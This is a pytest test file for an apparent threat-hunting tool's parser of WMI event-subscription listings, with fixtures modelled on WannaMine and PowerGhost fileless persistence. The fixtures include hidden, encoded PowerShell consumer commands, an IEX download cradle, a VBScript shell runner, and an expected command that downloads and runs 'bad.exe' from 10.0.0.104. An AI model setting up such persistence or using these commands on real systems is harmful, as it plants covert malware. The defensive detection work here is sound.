"""WMI subscription parser: Format-List (wrapped, concatenated, cut) and ConvertTo-Json, every encoding.

Hand-written fixtures use the fileless WannaMine names (`DSM Event Log Filter` /
`DSM Event Log Consumer` running `powershell -enc ...`) next to the built-in
`SCM Event Log Filter` / `SCM Event Log Consumer` pair, laid out as PowerShell 5.1 prints
them (formats.md 7.1): padding per object, values wrapped at 119 characters inside tokens.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import ROOT, assert_same_in_every_encoding
from tests.test_properties import NETSTAT, SYSTEMINFO, TASKLIST_CSV, TASKLIST_TABLE, WMIC
from tests.test_suricata import ALERT, PRETTY_ARRAY
from tests.test_zeek import CONN, JSON_LINES
from wormhunt.sources import FORMATS, wmi
from wormhunt.sources.base import MemorySink
from wormhunt.sources.detect import detect_head
from wormhunt.sources.text import decode

REFERENCE = Path(os.environ.get("WORMHUNT_SHARED_REFERENCE", ROOT.parent / "shared" / "reference"))
SAMPLES = REFERENCE / "format-samples" / "wmi_persistence"

ENC = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA" * 3
DSM_COMMAND = "powershell.exe -NoP -NonI -W Hidden -enc " + ENC
DSM_QUERY = (
    "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA "
    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200"
)
NS = "ROOT\\subscription"


def fl(objects: list[list[tuple[str, str]]], width: int = 120) -> str:
    """Render objects as PowerShell Format-List: pad to the longest name, wrap at width - 1."""
    out = []
    for props in objects:
        pad = max(len(k) for k, _ in props)
        col = pad + 3
        room = width - 1 - col
        for key, value in props:
            chunks = [value[i : i + room] for i in range(0, len(value), room)] or [""]
            out.append(f"{key.ljust(pad)} : {chunks[0]}".rstrip())
            out.extend(" " * col + c for c in chunks[1:])
        out.extend(["", ""])
    return "\n".join(out) + "\n"


def system(cls: str, relpath: str, count: int) -> list[tuple[str, str]]:
    return [
        ("__GENUS", "2"),
        ("__CLASS", cls),
        ("__SUPERCLASS", "__EventConsumer" if cls.endswith("Consumer") else "__IndicationRelated"),
        ("__DYNASTY", "__SystemClass"),
        ("__RELPATH", relpath),
        ("__PROPERTY_COUNT", str(count)),
        ("__DERIVATION", "{__IndicationRelated, __SystemClass}"),
        ("__SERVER", "WKS-017"),
        ("__NAMESPACE", NS),
        ("__PATH", f"\\\\WKS-017\\{NS}:{relpath}"),
    ]


DSM_FILTER = [
    *system("__EventFilter", '__EventFilter.Name="DSM Event Log Filter"', 6),
    ("CreatorSID", "{1, 5, 0, 0...}"),
    ("EventAccess", ""),
    ("EventNamespace", "root\\cimv2"),
    ("Name", "DSM Event Log Filter"),
    ("Query", DSM_QUERY),
    ("QueryLanguage", "WQL"),
    ("PSComputerName", "WKS-017"),
]
DSM_CONSUMER = [
    *system("CommandLineEventConsumer", 'CommandLineEventConsumer.Name="DSM Event Log Consumer"', 27),
    ("CommandLineTemplate", DSM_COMMAND),
    ("CreatorSID", "{1, 5, 0, 0...}"),
    ("ExecutablePath", ""),
    ("KillTimeout", "0"),
    ("Name", "DSM Event Log Consumer"),
    ("RunInteractively", "False"),
    ("WorkingDirectory", ""),
    ("PSComputerName", "WKS-017"),
]
DSM_BINDING_REL = (
    '__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"DSM Event Log Consumer\\"",'
    'Filter="__EventFilter.Name=\\"DSM Event Log Filter\\""'
)
DSM_BINDING = [
    *system("__FilterToConsumerBinding", DSM_BINDING_REL, 7),
    ("Consumer", 'CommandLineEventConsumer.Name="DSM Event Log Consumer"'),
    ("CreatorSID", "{1, 5, 0, 0...}"),
    ("DeliverSynchronously", "False"),
    ("DeliveryQoS", ""),
    ("Filter", '__EventFilter.Name="DSM Event Log Filter"'),
    ("MaintainSecurityContext", "False"),
    ("SlowDownProviders", "False"),
    ("PSComputerName", "WKS-017"),
]
SCM_FILTER = [
    *system("__EventFilter", '__EventFilter.Name="SCM Event Log Filter"', 6),
    ("EventNamespace", "root\\cimv2"),
    ("Name", "SCM Event Log Filter"),
    ("Query", "select * from MSFT_SCMEventLogEvent"),
    ("QueryLanguage", "WQL"),
]
SCM_BINDING = [
    *system(
        "__FilterToConsumerBinding",
        '__FilterToConsumerBinding.Consumer="NTEventLogEventConsumer.Name=\\"SCM Event Log Consumer\\"",'
        'Filter="__EventFilter.Name=\\"SCM Event Log Filter\\""',
        7,
    ),
    ("Consumer", 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"'),
    ("Filter", '__EventFilter.Name="SCM Event Log Filter"'),
]
WANNAMINE = fl([DSM_FILTER, DSM_CONSUMER, DSM_BINDING, SCM_FILTER, SCM_BINDING])


def row(**kw: object) -> dict[str, object]:
    base = dict.fromkeys(("namespace", "class", "name", "query", "command", "script", "filter", "consumer"))
    base.update(source="Get-WmiObject")
    base.update(kw)
    return base


EXPECTED = [
    row(line=1, namespace=NS, **{"class": "__EventFilter"}, name="DSM Event Log Filter", query=DSM_QUERY),
    row(
        line=21,
        namespace=NS,
        **{"class": "CommandLineEventConsumer"},
        name="DSM Event Log Consumer",
        command=DSM_COMMAND,
    ),
    row(
        line=44,
        namespace=NS,
        **{"class": "__FilterToConsumerBinding"},
        filter='__EventFilter.Name="DSM Event Log Filter"',
        consumer='CommandLineEventConsumer.Name="DSM Event Log Consumer"',
    ),
]


def run(text: str) -> MemorySink:
    sink = MemorySink()
    wmi.parse(text, sink)
    return sink


def test_wannamine_format_list_exact() -> None:
    assert "Win32_Perf" in WANNAMINE and max(len(line) for line in WANNAMINE.split("\n")) == 119
    sink = run(WANNAMINE)
    rows = sink.of("wmi")
    assert sink.skipped == 0
    assert len(rows) == 5
    # Each object starts after the previous one, its wrapped lines and two blank lines.
    assert [r["line"] for r in rows] == [1, 21, 44, 66, 82]
    assert rows[:3] == EXPECTED
    assert rows[1]["command"].count(ENC) == 1  # the wrapped base64 re-joined without spaces
    assert rows[3]["name"] == "SCM Event Log Filter" and rows[3]["query"] == "select * from MSFT_SCMEventLogEvent"
    assert rows[4]["consumer"] == 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"'
    lines = WANNAMINE.split("\n")
    for r in rows:
        assert lines[r["line"] - 1].startswith("__GENUS")


def test_handwritten_wrap_inside_token() -> None:
    text = (
        "__CLASS          : __EventFilter\n"
        "__NAMESPACE      : ROOT\\subscription\n"
        "Name             : DSM Event Log Filter\n"
        "Query            : SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA "
        "'Win32_PerfFormattedD\n"
        "                   ata_PerfOS_System'\n"
    )
    [r] = run(text).of("wmi")
    assert r["query"] == (
        "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA "
        "'Win32_PerfFormattedData_PerfOS_System'"
    )


def test_every_encoding() -> None:
    assert_same_in_every_encoding(wmi.parse, WANNAMINE, "wmi", "wmi-subscription")
    zh = fl([[(k, v.replace("DSM Event Log Filter", "系统管理过滤器")) for k, v in DSM_FILTER], SCM_FILTER])
    assert_same_in_every_encoding(wmi.parse, zh, "wmi", "wmi-subscription")
    assert run(zh).of("wmi")[0]["name"] == "系统管理过滤器"


def test_concatenated_without_blank_lines_and_prompts() -> None:
    text = "PS C:\\> Get-WmiObject -Namespace root\\subscription -Class __EventFilter\n" + WANNAMINE.replace(
        "\n\n\n", "\n"
    )
    sink = run(text)
    assert sink.skipped == 0
    assert [r["class"] for r in sink.of("wmi")] == [
        "__EventFilter",
        "CommandLineEventConsumer",
        "__FilterToConsumerBinding",
        "__EventFilter",
        "__FilterToConsumerBinding",
    ]
    assert sink.of("wmi")[1]["command"] == DSM_COMMAND


def test_excluded_system_properties_infer_class() -> None:
    text = fl(
        [
            [("CommandLineTemplate", DSM_COMMAND), ("Name", "DSM Event Log Consumer")],
            [("ScriptingEngine", "VBScript"), ("ScriptText", "Set x = 1"), ("Name", "bad vbs")],
            [("EventNamespace", "root\\cimv2"), ("Name", "f"), ("Query", "SELECT * FROM __TimerEvent")],
            [("Consumer", 'CommandLineEventConsumer.Name="c"'), ("Filter", '__EventFilter.Name="f"')],
        ]
    )
    rows = run(text).of("wmi")
    assert [r["class"] for r in rows] == [
        "CommandLineEventConsumer",
        "ActiveScriptEventConsumer",
        "__EventFilter",
        "__FilterToConsumerBinding",
    ]
    assert rows[1]["script"] == "Set x = 1" and rows[0]["namespace"] is None
    assert detect_head(text.encode("utf-16-le"), complete=True).format.name == "wmi-subscription"


def test_multiline_script_and_truncation() -> None:
    long_line = "x = x + 1 ' " + "a" * 5000
    text = (
        "__CLASS         : ActiveScriptEventConsumer\n"
        "Name            : bad vbs\n"
        "ScriptFileName  :\n"
        "ScriptingEngine : VBScript\n"
        'ScriptText      : Set o = CreateObject("WScript.Shell")\n'
        '                  o.Run "powershell -enc AAAA", 0\n'
        f"                  {long_line}\n"
    )
    [r] = run(text).of("wmi")
    assert r["script"].startswith('Set o = CreateObject("WScript.Shell")\no.Run "powershell -enc AAAA", 0\nx = x')
    assert len(r["script"]) == wmi.SCRIPT_LIMIT
    assert r["command"] is None


def test_cut_listing_takes_name_and_class_from_paths() -> None:
    text = (
        '__RELPATH             : CommandLineEventConsumer.Name="DSM Event Log Consumer"\n'
        "__PATH                : \\\\WKS-017\\ROOT\\subscription:"
        'CommandLineEventConsumer.Name="DSM Event Log Consumer"\n'
        "CommandLineTemplate   : powershell.exe -enc AAAA\n"
    )
    [r] = run(text).of("wmi")
    assert (r["class"], r["name"], r["namespace"]) == ("CommandLineEventConsumer", "DSM Event Log Consumer", NS)


def test_junk_and_unknown_objects_are_counted_with_lines() -> None:
    text = WANNAMINE.split("\n\n\n")[0] + "\n!!! garbage from the clipboard\n\n\nFoo : bar\nBaz : 1\n"
    sink = run(text)
    assert len(sink.of("wmi")) == 1
    assert sink.skip_counts == {"not a Format-List property line": 1, "not a WMI subscription object": 1}
    lines = text.split("\n")
    by_reason = {s.reason: s.line for s in sink.skips}
    assert lines[by_reason["not a Format-List property line"] - 1] == "!!! garbage from the clipboard"
    assert lines[by_reason["not a WMI subscription object"] - 1] == "Foo : bar"


# ConvertTo-Json -----------------------------------------------------------------------------

JSON_ARRAY = """[
    {
        "__GENUS":  2,
        "__CLASS":  "__EventFilter",
        "__NAMESPACE":  "ROOT\\\\subscription",
        "__PATH":  "\\\\\\\\WKS-017\\\\ROOT\\\\subscription:__EventFilter.Name=\\"DSM Event Log Filter\\"",
        "CreatorSID":  [
                           1,
                           5
                       ],
        "EventNamespace":  "root\\\\cimv2",
        "Name":  "DSM Event Log Filter",
        "Query":  "SELECT * FROM __InstanceModificationEvent WITHIN 5600",
        "QueryLanguage":  "WQL",
        "InstallDate":  "\\/Date(1790077571033)\\/"
    },
    {
        "__CLASS":  "CommandLineEventConsumer",
        "__PATH":  "\\\\\\\\WKS-017\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\"DSM Event Log Consumer\\"",
        "CommandLineTemplate":  "powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgA",
        "ExecutablePath":  null,
        "Name":  "DSM Event Log Consumer"
    },
    {
        "Consumer":  "CommandLineEventConsumer.Name=\\"DSM Event Log Consumer\\"",
        "Filter":  "__EventFilter.Name=\\"DSM Event Log Filter\\""
    }
]
"""

JSON_CIM = """{
    "Name":  "SCM Event Log Consumer",
    "SourceName":  "Service Control Manager",
    "CimSystemProperties":  {
                                "Namespace":  "ROOT/subscription",
                                "ServerName":  "WKS-017",
                                "ClassName":  "NTEventLogEventConsumer",
                                "Path":  null
                            }
}
"""


def test_json_array_exact() -> None:
    sink = run(JSON_ARRAY)
    assert sink.skipped == 0
    rows = sink.of("wmi")
    assert rows == [
        row(
            line=2,
            namespace=NS,
            **{"class": "__EventFilter"},
            name="DSM Event Log Filter",
            query="SELECT * FROM __InstanceModificationEvent WITHIN 5600",
            source="Get-WmiObject-json",
        ),
        row(
            line=17,
            namespace=NS,
            **{"class": "CommandLineEventConsumer"},
            name="DSM Event Log Consumer",
            command="powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgA",
            source="Get-WmiObject-json",
        ),
        row(
            line=24,
            **{"class": "__FilterToConsumerBinding"},
            consumer='CommandLineEventConsumer.Name="DSM Event Log Consumer"',
            filter='__EventFilter.Name="DSM Event Log Filter"',
            source="Get-WmiObject-json",
        ),
    ]


def test_json_single_object_cim_and_appended_documents() -> None:
    [r] = run(JSON_CIM).of("wmi")
    assert (r["class"], r["namespace"], r["name"]) == ("NTEventLogEventConsumer", "ROOT/subscription", r["name"])
    sink = run(JSON_CIM + JSON_ARRAY)
    assert [x["line"] for x in sink.of("wmi")] == [1, 12, 27, 34]


def test_json_every_encoding() -> None:
    assert_same_in_every_encoding(wmi.parse, JSON_ARRAY, "wmi", "wmi-subscription")
    assert_same_in_every_encoding(wmi.parse, JSON_CIM, "wmi", "wmi-subscription")


def test_json_broken_documents_are_counted() -> None:
    broken = '{\n    "__CLASS":  "__EventFilter",\n    "Name":  "cut\n'
    sink = run(broken + JSON_CIM + '[\n    42,\n    {\n        "Foo":  1\n    }\n]\n')
    assert len(sink.of("wmi")) == 1 and sink.of("wmi")[0]["line"] == 4
    assert sink.skip_counts == {"bad JSON": 1, "JSON value is not an object": 1, "not a WMI subscription object": 1}
    assert sorted(s.line for s in sink.skips) == [1, 15, 16]
    sink = run('[\n    {\n        "__CLASS":  "__EventFilter",\n        "Name":  "a"\n    },\n')
    assert sink.skip_counts == {"unterminated JSON array": 1} and len(sink.of("wmi")) == 1


# Real captures ------------------------------------------------------------------------------


def sample(name: str) -> str:
    path = SAMPLES / name
    if not path.is_file():
        pytest.skip(f"format sample {path} not present")
    data = path.read_bytes()
    assert detect_head(data, complete=True).format.name == "wmi-subscription"
    return decode(data).text


def test_sample_powerghost() -> None:
    sink = run(sample("zh-CN-host_Get-WmiObject_subscription_PowerGhost.txt"))
    assert sink.skipped == 0
    f, c, b = sink.of("wmi")
    assert (f["line"], c["line"], b["line"]) == (1, 21, 47)
    assert f["query"] == (
        "SELECT * FROM __InstanceModificationEvent WITHIN 5601 WHERE TargetInstance ISA "
        "'Win32_PerfFormattedData_PerfOS_System'"
    )
    assert (c["class"], c["name"]) == ("NTEventLogEventConsumer", "SCM Event Log Consumer")
    assert b["consumer"] == 'CommandLineEventConsumer.Name="Systems Manage Consumer"'
    assert b["filter"] == '__EventFilter.Name="Systems Manage Filter"'
    assert f["namespace"] == "ROOT\\Subscription"


def test_sample_wrapped_and_full_and_mof_binding() -> None:
    rows = run(sample("en-US_Get-WmiObject_CommandLineEventConsumer_wrapped.txt")).of("wmi")
    assert [r["line"] for r in rows] == [3, 24]
    assert "'Win32_PerfFormattedData_PerfOS_System' AND" in rows[0]["query"]
    assert rows[1]["name"] == "Windows Update"
    assert "-enc JABmAGkAbABlACAAPQAgACgAWwBXAG0AaQBDAGwAYQBzAHMAXQAn" in rows[1]["command"]
    [full] = run(sample("en-US_Get-WmiObject_CommandLineEventConsumer_full.txt")).of("wmi")
    assert full["command"].endswith("DownloadString('http://10.0.0.104/bad.exe'); bad.exe")
    [b] = run(sample("en-US_Get-WmiObject_ActiveScriptEventConsumer_binding.txt")).of("wmi")
    assert b["class"] == "__FilterToConsumerBinding"
    assert b["consumer"] == '\\\\.\\root\\subscription:ActiveScriptEventConsumer.Name="bad vbs"'


# Detection and robustness -------------------------------------------------------------------

OTHERS = {
    "netstat": NETSTAT,
    "tasklist": TASKLIST_CSV,
    "tasklist-table": TASKLIST_TABLE,
    "wmic": WMIC,
    "systeminfo": SYSTEMINFO,
    "suricata": ALERT + "\n",
    "suricata-pretty": PRETTY_ARRAY,
    "zeek": CONN,
    "zeek-json": "\n".join(JSON_LINES) + "\n",
}


@pytest.mark.parametrize("name", sorted(OTHERS))
def test_does_not_claim_other_formats(name: str) -> None:
    assert wmi.sniff(OTHERS[name]) == 0.0


@pytest.mark.parametrize("text", [WANNAMINE, JSON_ARRAY, JSON_CIM])
def test_other_formats_do_not_claim_ours(text: str) -> None:
    ours = wmi.sniff(text)
    assert all(f.sniff(text) < ours for f in FORMATS.values() if f.name != "wmi-subscription")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=400))
def test_random_text_never_raises(text: str) -> None:
    run(text)
    wmi.sniff(text)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_mutated_lines_never_raise(data: st.DataObject) -> None:
    text = data.draw(st.sampled_from([WANNAMINE, JSON_ARRAY, JSON_CIM]))
    lines = text.split("\n")
    i = data.draw(st.integers(0, len(lines) - 1))
    lines[i] = data.draw(st.text(max_size=80))
    cut = data.draw(st.integers(0, len("\n".join(lines))))
    run("\n".join(lines))
    run("\n".join(lines)[:cut])
